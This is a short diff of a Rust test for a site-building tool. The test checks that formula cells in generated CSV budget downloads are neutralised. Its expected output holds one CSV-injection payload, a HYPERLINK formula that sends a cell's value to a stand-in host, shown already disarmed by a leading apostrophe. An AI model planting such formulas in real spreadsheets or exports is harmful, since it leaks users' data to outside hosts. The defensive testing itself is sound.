@@ -5,7 +5,7 @@
 
 mod common;
 
-use common::{Run, copy_tree, fixture, khula, read};
+use common::{Run, build, copy_tree, fixture, khula, read};
 use std::path::{Path, PathBuf};
 
 /// A temporary content folder with one council, `base-nagar`, and its folder.
@@ -43,18 +43,7 @@ fn formula_cells_are_neutralised_in_csv_downloads_and_numbers_left_alone() {
          2080/81,Health,+3,Tab\n",
     )
     .unwrap();
-    let out = tmp.path().join("sites");
-    let run = khula(
-        tmp.path(),
-        &[
-            "build",
-            "--content",
-            content.to_str().unwrap(),
-            "--out",
-            out.to_str().unwrap(),
-        ],
-    );
-    assert_eq!(run.code, 0, "{}", run.stderr);
+    let (_built, out) = build(&content);
     let csv = read(&out.join("base-nagar/data/budget.csv"));
     for cell in [
         "\"'=HYPERLINK(\"\"https://x?d=\"\"&B2,\"\"a\"\")\"",
